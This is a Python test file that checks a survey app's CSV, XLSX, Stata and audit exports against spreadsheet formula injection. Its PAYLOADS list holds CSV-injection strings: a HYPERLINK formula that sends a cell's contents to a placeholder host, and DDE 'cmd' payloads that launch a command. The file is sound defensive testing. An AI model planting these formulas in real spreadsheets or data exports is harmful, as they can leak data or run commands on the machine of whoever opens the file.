"""Exports never carry a live formula: CSV, XLSX, Stata and the audit CSV (OWASP CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sync_support import empty_store

from inclusion_desktop.questionnaire.loader import load_form
from inclusion_desktop.store import Store
from inclusion_desktop.store.spreadsheet import safe_cell
from inclusion_desktop.sync.tabular import export_tables

FORM_MD = """\
| survey |
| | type | name | label |
| | text | nom | Nom |
| | integer | age | Âge |
| | text | note | Note |
| settings |
| | form_id | version | form_title |
| | attaque | 1 | Attaque |
"""

PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?"&A2,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78 +SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _store(tmp_path: Path) -> Store:
    form_file = tmp_path / "attaque.md"
    form_file.write_text(FORM_MD, encoding="utf-8")
    store = empty_store(tmp_path / "a.sqlite")
    version = store.register_form(
        source=form_file.read_bytes(),
        filename=form_file.name,
        form_id="attaque",
        version="1",
        title="Attaque",
        sha256=load_form(form_file).sha256,
    )
    operator = store.add_operator("=HYPERLINK(\"http://x.invalid\")").id
    for index, payload in enumerate(PAYLOADS):
        sub = store.create_submission(form_version_id=version.id, zone="Z", operator_id=operator)
        store.finalize(sub.uuid, {"nom": payload, "age": str(-index), "note": "-4"}, operator)
    return store


def test_safe_cell_rule() -> None:
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    for harmless in ("-3", "+33.5", "-0,5", "1e-3", "Louvroil", "", "a=b", "'=déjà"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_csv_export_writes_formulas_as_text(tmp_path: Path) -> None:
    store = _store(tmp_path)
    out = tmp_path / "donnees.csv"
    export_tables(store, out, fmt="csv")
    store.close()
    with out.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["nom"] for row in rows] == ["'" + p for p in PAYLOADS]
    assert {row["_operator"] for row in rows} == {"'=HYPERLINK(\"http://x.invalid\")"}
    # Numbers stay numbers, negative ones included.
    assert [row["age"] for row in rows] == [str(-i) for i in range(len(PAYLOADS))]
    assert {row["note"] for row in rows} == {"-4"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or value == ""


def test_xlsx_export_has_no_formula_cell(tmp_path: Path) -> None:
    store = _store(tmp_path)
    out = tmp_path / "donnees.xlsx"
    export_tables(store, out, fmt="xlsx")
    store.close()
    book = openpyxl.load_workbook(out)
    kinds = {c.data_type for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    assert "f" not in kinds
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("nom")].value for row in sheet.iter_rows(min_row=2)]
    # The exact text, typed as text (a workbook keeps line ends as \n).
    assert names == [p.replace("\r", "\n") for p in PAYLOADS]


def test_stata_export_writes_formulas_as_text(tmp_path: Path) -> None:
    store = _store(tmp_path)
    out = tmp_path / "donnees.dta"
    export_tables(store, out, fmt="dta")
    store.close()
    frame = pd.read_stata(out)
    assert list(frame["nom"]) == ["'" + p for p in PAYLOADS]
    assert list(frame["age"].astype(str)) == [str(-i) for i in range(len(PAYLOADS))]


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_audit_csv_writes_formulas_as_text(tmp_path: Path, payload: str) -> None:
    with Store.open(str(tmp_path / "terrain.sqlite")) as store:
        store.set_device_name(payload)
        store.add_operator(payload)
        store.set_setting("verification_share", "2")
        text = store.audit_csv()
    rows = list(csv.reader(text.splitlines()))[1:]
    assert rows
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert any(value == "'" + payload for row in rows for value in row)
